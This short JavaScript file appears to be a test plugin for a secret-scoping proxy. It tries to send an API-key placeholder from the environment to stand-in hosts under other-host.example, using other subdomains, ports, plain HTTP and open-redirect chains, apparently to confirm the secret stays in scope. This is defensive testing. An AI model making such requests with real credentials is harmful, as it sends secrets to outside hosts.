// Sends its placeholder to other hosts, ports and schemes, in the right header.
import { attempts, plugin } from "./hostile.mjs";
import { get } from "./net.mjs";

export default plugin("hostile-secrets-other-host", {
  attack: ({ key }) => {
    const headers = { "x-api-key": process.env[key] };
    const send = (url) => get(url, { headers });
    const host = "api.other-host.example";
    const to = (url) => `https://${host}/redirect?to=${encodeURIComponent(url)}`;
    return attempts({
      "its own host": send(`https://${host}/`),
      second: send("https://second.other-host.example/"),
      unseen: send("https://unseen.other-host.example/"),
      wildcard: send("https://a.more.other-host.example/"),
      "another port": send(`https://${host}:8443/`),
      "without TLS": send(`http://${host}/`),
      "without TLS, unseen": send(`http://${host}:8080/`),
      "redirect to second": send(to("https://second.other-host.example/")),
      "redirect to unseen": send(to("https://unseen.other-host.example/")),
      "redirect to plain": send(to(`http://${host}/`)),
      "redirect to a port": send(to(`https://${host}:8443/`)),
    });
  },
});
